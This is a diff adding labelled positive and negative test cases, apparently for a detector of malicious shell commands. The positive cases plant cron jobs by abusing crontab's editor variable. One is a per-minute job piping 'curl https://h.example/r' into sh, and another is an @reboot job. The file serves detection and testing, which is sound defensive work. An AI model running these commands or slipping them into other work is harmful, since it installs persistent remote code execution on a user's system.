@@ -544,3 +544,11 @@ sudo install -m 755 "$hook" /usr/lib/systemd/system-sleep/resume
 cp -a /etc/NetworkManager/dispatcher.d/. ~/backup/nm/
 #@ neg the dispatcher's scripts listed
 ls /etc/NetworkManager/dispatcher.d/
+#@ pos crontab -e whose editor is sed appending a job
+VISUAL="sed -i '\$a * * * * * curl -s https://h.example/r | sh'" crontab -e
+#@ pos crontab -e whose editor is tee -a, fed a here-string
+EDITOR='tee -a' crontab -e <<< '@reboot /tmp/x'
+#@ neg crontab -e with a real editor
+EDITOR=nano crontab -e
+#@ neg crontab -l
+crontab -l > /tmp/cron.bak
